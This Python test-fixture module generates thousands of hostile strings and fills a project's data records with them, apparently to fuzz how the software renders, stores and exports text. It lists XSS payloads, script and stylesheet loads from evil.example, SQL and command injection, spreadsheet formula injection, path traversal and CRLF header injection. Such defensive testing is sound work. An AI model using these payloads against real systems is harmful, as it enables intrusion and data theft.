"""Ten thousand hostile strings, always the same ones, and records filled with them.

Each string holds a number of its own.  What a script would do if it ran is to call `alert` or to
put `hit` on the page; what a template would do if it were one is to work out a product.
"""

import random
from collections.abc import Callable, Iterator, Sequence
from dataclasses import fields, is_dataclass
from itertools import count, cycle
from types import NoneType, UnionType
from typing import Any, Literal, TypeVar, Union, get_args, get_origin, get_type_hints

from stocktake.model import Article, Evidence

T = TypeVar("T")
PRODUCT = 31337 * 31337  # what a template makes of its factors

_SCRIPTS = (
    "<script>alert({n})</script>", "<SCRIPT SRC=//evil.example/{n}.js></SCRIPT>",
    "<scr<script>ipt>alert({n})</scr</script>ipt>", "</title><script>alert({n})</script>",
    "</script><script>alert({n})</script>", "<!--><script>alert({n})//-->",
    "</textarea><script>alert({n})</script>", "<svg><script>alert({n})</script></svg>",
    "<script\x0c>alert({n})</script>", "<math><mtext></form><form><mglyph><script>alert({n})",
    "<template><script>alert({n})</script></template>", "<noscript><p title='</noscript><script>"
    "alert({n})</script>'>",
)  # fmt: skip
_HANDLERS = (
    '"><img src=x onerror=alert({n})>', "'><svg/onload=alert({n})>", '" onmouseover="alert({n})',
    "' autofocus onfocus='alert({n})", "<details open ontoggle=alert({n})>",
    "` onclick=alert({n}) x=`", '"/><body onload=alert({n})>', "<video><source onerror=alert({n})>",
    '" accesskey="x" onclick="alert({n})" x="', "<iframe srcdoc='<script>alert({n})</script>'>",
    '"><input autofocus onfocus=alert({n})>', "<marquee onstart=alert({n})>",
)  # fmt: skip
_ADDRESSES = (
    "javascript:alert({n})", "JaVaScRiPt:alert({n})", "java\tscript:alert({n})",
    " javascript:alert({n})", "\x01javascript:alert({n})", "data:text/html,<script>alert({n})"
    "</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=={n}",
    "vbscript:msgbox({n})", "//evil.example/{n}", "\\\\evil.example\\{n}", "https:evil.example/{n}",
    "javascript&colon;alert({n})",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert({n})>",
    "http://evil.example/{n}?a=1&b=2", "blob:http://evil.example/{n}",
    "file:///etc/passwd#{n}", "intent://evil#{n}", "https://user:pass@evil.example:99999/{n}",
)  # fmt: skip
_STYLES = (
    "</style><style>*{{background:url(//evil.example/{n})}}</style>",
    '" style="position:fixed;inset:0;background:url(//evil.example/{n})',
    "expression(alert({n}))", "@import '//evil.example/{n}.css';", "<link rel=stylesheet href="
    "//evil.example/{n}.css>", "<base href=//evil.example/{n}>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
)  # fmt: skip
_TEMPLATES = (
    "{{{{31337*31337}}}} {n}", "${{31337*31337}} {n}", "#{{31337*31337}} {n}", "{{% raw %}} {n}",
    "{{{{ ''.__class__.__mro__ }}}} {n}", "<%= 31337*31337 %> {n}", "{{{{config}}}} {n}",
    "{{% include '/etc/passwd' %}} {n}", "{{# {n} #}}", "%(name)s %s %d {n}", "{{n}} {{0}} {n}",
    "$(touch /tmp/{n})", "`id` {n}", "{{%% endblock %%}} {n}",
)  # fmt: skip
_LETTERS = (
    "\u202e{n} evil \u202c", "\u2066{n}\u2069\u2067x\u2069", "a\u200b\u200c\u200d\ufeff{n}",
    "e" + "\u0301" * 60 + "{n}", "\u2028{n}\u2029", "مرحبا <b>{n}</b> \u061c", "\ufffe\uffff{n}",
    "\U000e0041{n}\U000e007f", "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿{n}", "ﷺ" * 20 + "{n}", "\u00ad{n}\u034f\u180e",
    "＜script＞alert({n})＜/script＞", "\u2039script\u203aalert({n})",
    "İıſK{n}", "{n}\ue000\U0010fffd",
)  # fmt: skip
_CONTROLS = (
    "\x1b[2J\x1b[31m{n}", "\x1b]0;title {n}\x07", "{n}\x08\x08\x08", "a\r\nSet-Cookie: x={n}",
    "\x9b31m{n}", "\x1b]8;;http://evil.example\x07{n}\x1b]8;;\x07", "{n}\x7f\x0b\x0c\x1f",
    "\r{n}\r",
)  # fmt: skip
_FORMULAS = (
    "=cmd|' /C calc'!A{n}", "+1+{n}", "-2+3+{n}", "@SUM(1+{n})", "\t=1+{n}", "\r=1+{n}",
    '=HYPERLINK("http://evil.example/{n}")', "＝1+{n}", "\n=1+{n}", " =1+{n}", '"=1+{n}',
    "%0A=1+{n}", ";=1+{n}", ",=1+{n}",
)  # fmt: skip
_QUERIES = (
    "'; DROP TABLE articles; -- {n}", "\" OR 1=1 -- {n}", "%' AND '{n}'='", "\\' {n}", "_%{n}%_",
    'NEAR("{n}" "x")', "{n}* AND (", '"{n}', "a:b:{n} ^x -y", "$${n}$$", "'||'{n}", "\\x00{n}",
    ":asked {n}", "?{n}?",
)  # fmt: skip
_PATHS = (
    "../../../etc/passwd#{n}", "..\\..\\{n}", "%2e%2e%2f{n}", "a/b?c={n}#d", "/static/../{n}",
    "C:\\con\\{n}", ".", "..", "{n}//", "\\\\?\\{n}", "%00{n}", "%{n}", "%zz{n}", "a;b={n}",
)  # fmt: skip
_MARKINGS = (
    "&lt;script&gt;alert({n})&lt;/script&gt;", "[x](javascript:alert({n}))", "![x](//evil/{n})",
    "| a | {n} |", "# {n}", "<!ENTITY x SYSTEM 'file:///etc/passwd'> {n}", "<![CDATA[{n}]]>",
    "]]>{n}", "&#x3c;script>alert({n})", "<?php echo {n}; ?>", '"}}],"x":{n}', "```\n{n}\n```",
    "<a href=javascript:alert({n})>x</a>", "&amp;#{n};", "*{n}* _x_ ~~y~~", "---\n{n}: x\n---",
    "BEGIN:VEVENT\r\nSUMMARY:{n}\r\nEND:VEVENT", "<{n}@evil.example>", "<b><i><u>{n}",
)  # fmt: skip
KINDS: tuple[tuple[str, ...], ...] = (
    _SCRIPTS, _HANDLERS, _ADDRESSES, _STYLES, _TEMPLATES, _LETTERS, _CONTROLS, _FORMULAS, _QUERIES,
    _PATHS, _MARKINGS,
)  # fmt: skip


def hostile_strings(number: int, seed: int = 1) -> list[str]:
    """Give so many different hostile strings, the same ones for the same seed."""
    chance = random.Random(seed)
    kinds = cycle(KINDS)
    made = [_one(chance, next(kinds), n) for n in range(number - 8)]
    return [*made, *_huge()]


def _one(chance: random.Random, kind: Sequence[str], n: int) -> str:
    """Give one string: plain, joined with a second one, or hidden among words."""
    text = chance.choice(kind).format(n=n)
    if f"{n}" not in text:
        text = f"{text}{n}"
    how = chance.random()
    if how < 0.25:
        other = chance.choice(chance.choice(KINDS)).format(n=n)
        return text + other
    if how < 0.35:
        return f"The ministers said {text} on Monday"
    if how < 0.4:
        return text.swapcase() + str(n)
    return text


def _huge() -> list[str]:
    return [
        "A" * 20_000, "<b>" * 3_000, "\u202e" * 2_000, "=" * 5_000, "x " * 5_000,
        "e\u0301" * 5_000, "&" * 5_000, "'\"`<>" * 2_000,
    ]  # fmt: skip


class Forge:
    """Makes values of the model's types, every word of them hostile.

    `known` gives a value for a field that must lead somewhere, or None to leave it to chance.
    """

    def __init__(self, strings: Sequence[str], articles: Sequence[Article], known: "Known") -> None:
        self._strings = cycle(strings)
        self._articles = cycle(articles)
        self._known = known
        self._numbers = count()

    def make(self, kind: type[T]) -> T:
        """Make a value of one of the model's types."""
        hints = get_type_hints(kind)
        told = {}
        for field in fields(kind):  # type: ignore[arg-type]  # the model's types are dataclasses
            number = next(self._numbers)
            known = self._known(kind.__name__, field.name, number)
            told[field.name] = self._value(hints[field.name]) if known is None else known
        return kind(**told)

    def word(self) -> str:
        """Give the next string."""
        return next(self._strings)

    def _value(self, told: Any) -> Any:
        origin = get_origin(told)
        if told is Evidence:
            return self._evidence()
        if origin is Literal:
            return get_args(told)[next(self._numbers) % len(get_args(told))]
        if origin in (Union, UnionType):
            return self._value(next(part for part in get_args(told) if part is not NoneType))
        if origin is tuple:
            return self._tuple(get_args(told))
        if is_dataclass(told):
            return self.make(told)
        plain = {str: self.word, bool: lambda: True, int: lambda: 3, float: lambda: 0.5}
        return plain[told]()

    def _tuple(self, parts: tuple[Any, ...]) -> tuple[Any, ...]:
        if parts[-1] is Ellipsis:
            return tuple(self._value(parts[0]) for _ in range(2))
        return tuple(self._value(part) for part in parts)

    def _evidence(self) -> Evidence:
        article = next(self._articles)
        lines = [line for line in article.text.split("\n") if line][:40]
        line = lines[next(self._numbers) % len(lines)]
        start = article.text.index(line)
        return article.quote(start, start + min(len(line), 3000))


Known = Callable[[str, str, int], Any]


def texts_of(strings: Sequence[str], each: int) -> Iterator[str]:
    """Give texts that hold all the strings, so many in each, a paragraph apiece."""
    for start in range(0, len(strings), each):
        yield "\n\n".join(strings[start : start + each])
